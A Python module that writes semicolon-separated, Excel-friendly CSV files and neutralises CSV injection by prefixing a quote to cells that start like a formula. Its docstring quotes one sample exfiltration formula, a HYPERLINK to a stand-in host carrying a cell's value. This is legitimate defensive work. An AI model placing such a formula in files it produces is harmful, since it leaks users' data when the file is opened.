"""CSV injection: text cells that a spreadsheet would run as a formula are made inert.

A CSV file the project writes may echo text that came from outside (the rejects file repeats
the cells of the input as written; exports carry descriptions and place names). Excel and
LibreOffice treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and a
leading tab or carriage return can hide such a start; a formula like
``=HYPERLINK("http://x/?leak="&A1,"y")`` leaks data or runs commands when the file is opened.
Following OWASP ("CSV Injection"), such a cell gets a single quote in front, which spreadsheets
show as text and which a reader of the file can strip. The CSV writer's own quoting keeps a
cell that contains the separator, quotes or line breaks one cell.

Only text is changed: numbers written from a numeric column (``-12.5`` of a float column) stay
numbers. Text that merely looks like a negative number (``"-12.5"`` in a text column) is
prefixed too, as OWASP recommends for anything starting with ``-``.

Every CSV the project writes goes through :func:`write_excel_csv` (or :func:`excel_csv_bytes`
for a download): the layout Swedish Excel opens as a table, whatever the interface language.
It is the only place that knows that layout:

* ``;`` between cells (Excel in a Swedish locale splits on ``;``, not ``,``);
* UTF-8 with a byte-order mark, so Excel shows å, ä and ö;
* decimal comma in Swedish (``12,5``), decimal point in English; only numeric columns;
* headers in the interface language (:func:`hotspots.core.i18n.column_label`);
* every text cell and header neutralised as above.

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import IO

import pandas as pd

from hotspots.core.i18n import Lang, check_lang, column_label

__all__ = [
    "CSV_ENCODING",
    "CSV_SEPARATOR",
    "FORMULA_STARTS",
    "excel_csv_bytes",
    "neutralise_csv_cell",
    "neutralise_csv_frame",
    "read_excel_csv",
    "write_excel_csv",
]

#: Cell separator of every CSV the project writes (Swedish Excel's list separator).
CSV_SEPARATOR = ";"
#: Encoding of every CSV the project writes: UTF-8 with a byte-order mark (for Excel).
CSV_ENCODING = "utf-8-sig"
_BOM = "\ufeff".encode()

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: What goes in front of such a cell.
_PREFIX = "'"
_PATTERN = "^[" + "".join("\\" + c if c in "-\\]^" else c for c in FORMULA_STARTS) + "]"


def neutralise_csv_cell(value: str) -> str:
    """``value`` with a single quote in front when it starts like a formula.

    Parameters
    ----------
    value
        The text of one cell.

    Returns
    -------
    str
        ``"'" + value`` when ``value`` starts with ``=``, ``+``, ``-``, ``@``, a tab or a
        carriage return; otherwise ``value`` unchanged.

    Examples
    --------
    >>> neutralise_csv_cell("=1+1")
    "'=1+1"
    >>> neutralise_csv_cell("Kungsgatan 1")
    'Kungsgatan 1'
    """
    return _PREFIX + value if value.startswith(FORMULA_STARTS) else value


def _is_text(values: pd.Series) -> bool:
    return isinstance(values.dtype, pd.StringDtype) or values.dtype == object


def neutralise_csv_frame(
    frame: pd.DataFrame, *, columns: Iterable[str] | None = None
) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are safe to write to a CSV file.

    Parameters
    ----------
    frame
        The table about to be written.
    columns
        The columns to treat; default every text column (``string`` or ``object`` dtype).
        Numeric, boolean and time columns are never changed.

    Returns
    -------
    pandas.DataFrame
        ``frame`` with :func:`neutralise_csv_cell` applied to each text cell (missing cells
        stay missing; non-text objects in an ``object`` column are left as they are).
    """
    out = frame.copy()
    names = list(frame.columns) if columns is None else list(columns)
    for name in names:
        values = out[name]
        if not _is_text(values):
            continue
        text = values.astype("string")
        risky = text.str.contains(_PATTERN, regex=True).fillna(False).to_numpy(dtype=bool)
        if values.dtype == object:  # only real strings: other objects are not text cells
            risky &= values.map(lambda v: isinstance(v, str)).to_numpy(dtype=bool)
        if risky.any():
            fixed = values.copy()
            fixed[risky] = _PREFIX + text[risky]
            out[name] = fixed
    return out


def _decimal(lang: Lang) -> str:
    return "," if lang == "sv" else "."


def excel_csv_bytes(
    frame: pd.DataFrame,
    *,
    lang: Lang,
    translate_headers: bool = True,
    labels: Mapping[str, str] | None = None,
    header: bool = True,
    bom: bool = True,
) -> bytes:
    """``frame`` as the bytes of a CSV file that Swedish Excel opens as a table.

    Parameters
    ----------
    frame
        The table; its index is not written.
    lang
        Interface language: ``"sv"`` writes a decimal comma, ``"en"`` a decimal point, and
        the headers are in this language.
    translate_headers
        Replace each column name by its header in ``lang``
        (:func:`hotspots.core.i18n.column_label`); ``False`` keeps the names (a file meant
        to be imported again).
    labels
        Headers for some columns, taking precedence over the translation.
    header
        Write the header line.
    bom
        Start with the UTF-8 byte-order mark (``False`` for lines appended to a file).

    Returns
    -------
    bytes
        UTF-8 text, ``;``-separated, one line per row ending in CR LF (RFC 4180); every
        text cell and header that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
        return has a ``'`` in front; numbers of numeric columns are written as numbers.
    """
    language = check_lang(lang)
    safe = neutralise_csv_frame(frame)
    names = [str(c) for c in frame.columns]
    if translate_headers:
        names = [column_label(n, language) for n in names]
    if labels:
        names = [labels.get(str(c), n) for c, n in zip(frame.columns, names, strict=True)]
    safe.columns = [neutralise_csv_cell(n) for n in names]
    text = safe.to_csv(
        sep=CSV_SEPARATOR,
        index=False,
        header=header,
        decimal=_decimal(language),
        lineterminator="\r\n",  # RFC 4180; a cell holding a carriage return is then quoted
    )
    data = text.encode("utf-8")
    return _BOM + data if bom else data


def write_excel_csv(
    frame: pd.DataFrame,
    path_or_buffer: str | Path | IO[bytes],
    *,
    lang: Lang,
    translate_headers: bool = True,
    labels: Mapping[str, str] | None = None,
    append: bool = False,
) -> None:
    """Write ``frame`` as a CSV file that Swedish Excel opens as a table.

    See :func:`excel_csv_bytes` for the layout.

    Parameters
    ----------
    frame
        The table.
    path_or_buffer
        A file path, or a binary file object.
    lang, translate_headers, labels
        As for :func:`excel_csv_bytes`.
    append
        Add the rows to the end of an existing file, without a header or byte-order mark
        (a file written in chunks).
    """
    data = excel_csv_bytes(
        frame,
        lang=lang,
        translate_headers=translate_headers,
        labels=labels,
        header=not append,
        bom=not append,
    )
    if isinstance(path_or_buffer, str | Path):
        with Path(path_or_buffer).open("ab" if append else "wb") as fh:
            fh.write(data)
    else:
        path_or_buffer.write(data)


def read_excel_csv(source: str | Path | bytes | IO[bytes]) -> pd.DataFrame:
    """Read back a CSV written by :func:`write_excel_csv`, every cell as the text written.

    For showing such a file (the rejects of an import in the app): ``;``-separated, UTF-8
    with or without a byte-order mark; empty cells are empty strings.

    Parameters
    ----------
    source
        A path, the file's bytes or a binary file object.
    """
    if isinstance(source, bytes):
        source = io.BytesIO(source)
    return pd.read_csv(
        source,
        sep=CSV_SEPARATOR,
        encoding=CSV_ENCODING,
        dtype=str,
        keep_default_na=False,
    )
